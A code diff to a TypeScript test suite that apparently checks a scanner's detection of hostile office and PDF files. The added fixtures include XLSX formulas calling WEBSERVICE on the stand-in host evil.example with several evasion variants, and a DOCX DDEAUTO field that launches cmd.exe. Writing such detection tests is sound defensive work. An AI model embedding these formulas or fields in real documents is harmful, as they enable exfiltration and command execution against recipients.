@@ -289,6 +289,30 @@ function offices(): Hostile[] {
         }),
       ),
     ),
+    ...Object.entries({
+      'under a prefix': {
+        'xl/worksheets/sheet1.xml':
+          '<x:worksheet><x:sheetData><x:row><x:c><x:f>WEBSERVICE(&quot;http://evil.example&quot;)</x:f></x:c></x:row></x:sheetData></x:worksheet>',
+      },
+      'in a folder of its own': {
+        'data/sheet1.xml': '<worksheet><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></worksheet>',
+      },
+      'in capitals': {
+        'xl/worksheets/sheet1.XML': '<worksheet><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></worksheet>',
+      },
+      'two bytes a letter': {
+        'xl/worksheets/sheet1.xml': Buffer.from(
+          '\ufeff<worksheet><f>WEBSERVICE("http://evil.example")</f></worksheet>',
+          'utf16le',
+        ),
+      },
+    }).map(([how, more]) =>
+      file(`XLSX: a formula that fetches, ${how}`, 'a.xlsx', 'any-refusal', () => officeOf('xlsx', 'a', more)),
+    ),
+    docx('DDE under another prefix', 'FILE_RUNS', {
+      'word/document.xml':
+        '<q:document><q:body><q:p><q:fldSimple q:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></q:p></q:body></q:document>',
+    }),
     file('DOCX: behind a password', 'a.docx', 'FILE_ENCRYPTED', () =>
       Buffer.concat([
         Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
@@ -408,9 +432,9 @@ const plainObjects = [
   '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
 ]
 
-function packed(text: string, first: number): string {
+function packed(text: string, first: number, { filter = '/Filter /FlateDecode', begins = 'stream\n' } = {}): string {
   const bytes = deflateSync(Buffer.from(text)).toString('latin1')
-  return `<< /Type /ObjStm /N 1 /First ${first} /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
+  return `<< /Type /ObjStm /N 1 /First ${first} ${filter} /Length ${bytes.length} >>\n${begins}${bytes}\nendstream`
 }
 
 /** A PDF of one page; `catalog` and `more` objects (from 6 on) are what is hostile in it. */
